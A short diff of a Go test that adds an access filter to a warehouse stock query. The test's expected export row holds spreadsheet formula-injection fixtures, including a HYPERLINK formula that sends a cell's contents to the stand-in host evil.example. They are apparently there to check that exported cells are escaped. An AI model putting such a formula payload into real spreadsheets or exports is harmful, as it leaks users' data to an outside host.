@@ -150,7 +150,7 @@ func TestRowsAreThoseOfTheStore(t *testing.T) {
 	}
 	var want [][]string
 	h.View(func(v *store.View) error {
-		return v.Stock(store.StockFilter{Warehouse: "SHA"}, func(r store.StockRow) error {
+		return v.Stock(store.StockFilter{Warehouse: "SHA", In: access.Places{All: true}}, func(r store.StockRow) error {
 			want = append(want, []string{"SHA", r.Location.Code(), "'=1+1", "", `'=HYPERLINK("http://evil.example/?"&A1,"open")  <b>&amp;`, "", "'" + string(r.Key.Lot), "", "2027-06-30", "available", r.OnHand.String(), "个"})
 			return nil
 		})
